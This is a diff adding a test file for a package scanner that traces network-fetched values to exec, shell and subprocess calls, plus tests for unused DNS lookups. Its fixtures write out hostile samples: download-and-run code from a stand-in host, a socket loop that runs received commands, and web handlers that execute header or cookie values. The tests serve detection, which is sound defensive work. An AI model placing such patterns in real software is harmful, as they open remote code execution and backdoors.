@@ -1,0 +1,171 @@
+"""Where a module's values go: from the network to what runs them."""
+# ruff: noqa: E501 - the lines of other people's code are as long as they are
+
+import pytest
+
+from tests.scanner.signals.built import WHEEL, findings, fired, wheel
+
+FETCH = "import requests, os, subprocess, sys, pickle\nURL = 'https://c.example.invalid/'\n"
+RUN = {
+    "at once": "def go():\n    exec(requests.get(URL).text)\n",
+    "compiled": "def go():\n    r = requests.post(URL, json={})\n    f = compile(r.text, 'r', 'exec')\n    return f\n",
+    "handed over": "def run(text):\n    exec(text)\n\ndef go():\n    run(requests.get(URL).json()['hook'])\n",
+    "by name": "def run(*, text):\n    exec(text)\n\ndef go():\n    run(text=requests.get(URL).content)\n",
+    "returned": "def load():\n    return requests.get(URL).text\n\ndef go():\n    text = load().strip()\n    exec(text)\n",
+    "kept": """
+class Feed:
+    def pull(self):
+        self.rows = requests.get(URL).json()["rows"]
+
+    def draw(self):
+        for row in self.rows:
+            exec(row["draw"])
+""",
+    "kept, and run within": "class Feed:\n    def pull(self):\n        self.text = requests.get(URL).text\n\n    def draw(self):\n        def inner():\n            exec(self.text)\n        return inner\n",
+    "decoded": "def undo(t):\n    return bytes.fromhex(t[3:]).decode()\n\ndef go():\n    exec(undo(requests.get(URL).text))\n",
+    "whoever runs it": "def go():\n    code = requests.get(URL).text\n    (lambda f: f(code))(exec)\n    list(map(exec, [code]))\n",
+    "in the background": """
+import aiohttp
+
+async def go():
+    async with aiohttp.ClientSession() as s:
+        async with s.get(URL) as r:
+            code = await r.text()
+    exec(code, {})
+""",
+    "a shell": "def go():\n    for job in requests.get(URL).json():\n        subprocess.run(job['c'], shell=True)\n",
+    "a shell of another system": "def go():\n    c = requests.get(URL).text\n    os.system('cmd /c ' + c)\n    os.popen(f'{c} 2>&1')\n",
+    "an interpreter": "def go():\n    subprocess.Popen([sys.executable, '-c', requests.get(URL).text])\n",
+    "an interpreter that is told": "def go():\n    subprocess.run(['bash', '-s'], input=requests.get(URL).content)\n",
+    "a command in words": "import shlex\ndef go():\n    c = requests.get(URL).text\n    subprocess.call(shlex.split(c))\n#calls: os.system\n",
+    "a socket": """
+import socket
+
+def go():
+    s = socket.socket()
+    s.connect(("c.example.invalid", 443))
+    while True:
+        os.popen(s.recv(4096).decode()).read()
+""",
+    "a table of somebody": """
+import gspread
+
+def go():
+    tab = gspread.service_account().open_by_key("k").worksheet("w")
+    subprocess.getoutput(tab.cell(1, 1).value)
+""",
+    "a name's text": """
+import dns.resolver
+
+def go():
+    exec("".join(str(a) for a in dns.resolver.resolve("t.example.invalid", "TXT")))
+""",
+    "a visitor": """
+from flask import request
+
+def health():
+    token = request.headers.get("X-Trace", "")
+    return subprocess.run(bytes.fromhex(token).decode(), shell=True, capture_output=True).stdout
+""",
+    "a visitor of another framework": """
+from fastapi import Request
+
+async def health(request: Request):
+    return os.popen(request.cookies["s"]).read()
+""",
+    "a visitor of a small server": """
+from http.server import BaseHTTPRequestHandler
+
+class Health(BaseHTTPRequestHandler):
+    def do_POST(self):
+        os.system(self.rfile.read(10).decode())
+""",
+}
+ONLY_READ = {
+    "nothing is run": "def go():\n    return requests.get(URL).text\n\ndef run(text):\n    exec(text)\n",
+    "its own command": "def go():\n    v = requests.get(URL).json()['version']\n    os.system('pip install tool==' + v)\n",
+    "its own command, filled": "def go():\n    v = requests.get(URL).text\n    os.system('git clone %s' % v)\n    os.system('git clone {}'.format(v))\n",
+    "its own command, in parts": "def go():\n    c = ['git', 'clone', requests.get(URL).text]\n    subprocess.run(c)\n    subprocess.run(['sh', 'x.sh', requests.get(URL).text])\n",
+    "its own table": "TABLE = {'a': 'ls'}\ndef go():\n    os.system(TABLE[requests.get(URL).text])\n    os.system(TABLE.get(requests.get(URL).text))\n",
+    "a status": "def go():\n    exec(f'x = {requests.get(URL).status_code}')\n    exec(str(len(requests.get(URL).text)))\n",
+    "this machine": "def go():\n    exec(requests.get('http://localhost:8080/x').text)\n\nHERE = 'http://127.0.0.1'\ndef run(n):\n    exec(requests.get(HERE).text)\n    exec(requests.get(f'http://localhost:{n}/').text)\n",
+    "who listens": """
+import socket
+
+def serve():
+    s = socket.socket()
+    s.bind(("localhost", 7002))
+    s.listen()
+    c, _ = s.accept()
+    exec(c.recv(4096))
+""",
+    "a worker": "from multiprocessing import Pipe\ndef go(conn):\n    exec(conn.recv())\n",
+    "a path of its own": "class Tool:\n    def go(self):\n        os.system(self.path)\n        requests.get(URL)\n",
+    "an argument of that name": "text = requests.get(URL).text\n\ndef run(text):\n    exec(text)\n",
+    "a template": "import jinja2\ndef go(name):\n    requests.get(URL)\n    exec(jinja2.Template('x').render(name=name))\n",
+}
+
+
+@pytest.mark.parametrize("source", RUN.values(), ids=RUN)
+def test_what_comes_from_the_network_is_followed_to_what_runs_it(source: str) -> None:
+    assert "remote-is-run" in fired(WHEEL, wheel({"tidetables/core.py": (FETCH + source).encode()}))
+
+
+@pytest.mark.parametrize("source", ONLY_READ.values(), ids=ONLY_READ)
+def test_what_is_asked_for_and_only_read_tells_nothing(source: str) -> None:
+    told = fired(WHEEL, wheel({"tidetables/core.py": (FETCH + source).encode()}))
+    assert not any(name.startswith("remote-") for name in told)
+
+
+@pytest.mark.parametrize(
+    "reads", ["eval(text)", "pickle.loads(text)", "yaml.load(text, Loader=yaml.Loader)", "yaml.unsafe_load(text)"]
+)
+def test_what_is_evaluated_or_unpickled_weighs_less_than_what_is_run(reads: str) -> None:
+    source = f"{FETCH}import yaml\n\ndef go():\n    text = requests.get(URL).content\n    return {reads}\n"
+    told = {f.rule: f.points for f in findings(WHEEL, wheel({"tidetables/core.py": source.encode()}))}
+    assert told["remote-is-evaluated"] < 3
+    assert "remote-is-run" not in told
+
+
+@pytest.mark.parametrize(
+    "reads", ["yaml.safe_load(text)", "yaml.load(text)", "yaml.load(text, Loader=yaml.SafeLoader)"]
+)
+def test_a_document_that_makes_no_objects_is_only_read(reads: str) -> None:
+    source = f"{FETCH}import yaml\n\ndef go():\n    text = requests.get(URL).content\n    return {reads}\n"
+    assert "remote-is-evaluated" not in fired(WHEEL, wheel({"tidetables/core.py": source.encode()}))
+
+
+@pytest.mark.parametrize("name", ["f'{data}.n.example.invalid'", "data + '.n'", "'%s.n' % data", "'{}.n'.format(data)"])
+def test_a_name_that_is_put_together_and_looked_up_for_nothing_is_told(name: str) -> None:
+    source = f"import socket\n\ndef report(data):\n    try:\n        socket.gethostbyname({name})\n    except OSError:\n        pass\n"
+    assert "lookup-answer-unused" in fired(WHEEL, wheel({"tidetables/core.py": source.encode()}))
+
+
+@pytest.mark.parametrize(
+    "asks",
+    [
+        "return socket.gethostbyname(f'{data}.n')",
+        "socket.gethostbyname(data)",
+        "where = socket.getaddrinfo(data + '.n', 80)",
+    ],
+)
+def test_a_lookup_for_its_answer_or_of_a_name_as_it_is_tells_nothing(asks: str) -> None:
+    source = f"import socket\n\ndef report(data):\n    {asks}\n"
+    assert "lookup-answer-unused" not in fired(WHEEL, wheel({"tidetables/core.py": source.encode()}))
+
+
+@pytest.mark.parametrize("source", ["exec(" * 3000, "import requests\nexec(" + "-" * 50_000 + "requests.get(u).text)"])
+def test_what_is_nested_too_deep_is_left_alone(source: str) -> None:
+    assert "remote-is-run" not in fired(WHEEL, wheel({"tidetables/core.py": source.encode()}))
+
+
+def test_many_methods_of_one_name_come_to_an_end() -> None:
+    methods = " def f(self, a):\n  self.f(a)\n" * 2000
+    source = f"{FETCH}class A:\n{methods}\nexec(requests.get(URL).text)\n"
+    assert "remote-is-run" in fired(WHEEL, wheel({"tidetables/core.py": source.encode()}))
+
+
+def test_functions_that_call_each_other_come_to_an_end() -> None:
+    calls = "".join(f"def f{n}(x):\n    return f{(n + 1) % 200}(f{(n + 7) % 200}(x))\n" for n in range(200))
+    source = f"{FETCH}{calls}exec(f0(requests.get(URL).text))\n"
+    fired(WHEEL, wheel({"tidetables/core.py": source.encode()}))
